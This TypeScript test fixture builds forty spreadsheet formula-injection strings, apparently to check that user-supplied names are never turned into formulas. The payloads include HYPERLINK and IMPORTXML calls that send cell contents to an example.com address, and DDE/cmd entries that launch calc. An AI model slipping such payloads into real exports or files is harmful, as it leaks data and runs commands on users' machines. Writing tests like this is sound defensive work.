// cspell:ignore WEBSERVICE calc

/** Beginnings that a spreadsheet program runs when they are typed, each as a name may begin. */
const BEGINNINGS = ['=', '+', '-', '@'];

/** What attackers put behind them: sums, calls of programs, fetched addresses, and what only looks like a number. */
const PAYLOADS = [
  '1+1',
  'HYPERLINK("http://example.com?x="&A1,"Click")',
  "cmd|' /C calc'!A0",
  'SUM(1+1)*cmd|x!A0',
  'IMPORTXML(CONCAT("http://example.com/",A1),"//a")',
  'WEBSERVICE("http://example.com")',
  'DDE("cmd";"/C calc";"x")',
  '(1+1)*2',
  '2+5+cmd|x',
  'A1',
];

/** Forty names that must never become a formula (T17). */
export const FORMULA_PAYLOADS: readonly string[] = BEGINNINGS.flatMap((beginning) =>
  PAYLOADS.map((payload) => beginning + payload),
);
